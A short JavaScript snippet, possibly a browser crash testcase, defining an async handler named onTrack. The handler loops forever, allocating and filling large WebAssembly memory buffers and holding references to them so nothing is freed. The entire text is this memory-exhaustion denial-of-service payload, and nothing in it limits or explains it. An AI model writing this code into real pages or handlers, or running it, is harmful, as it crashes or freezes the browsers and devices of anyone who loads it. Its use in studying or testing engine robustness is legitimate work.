async function onTrack() { const all = []; for (;;) { const w = new WebAssembly.Memory({ initial: 1, maximum: 2048 }); w.grow(1024); new Uint8Array(w.buffer).fill(1); all.push(w); } }
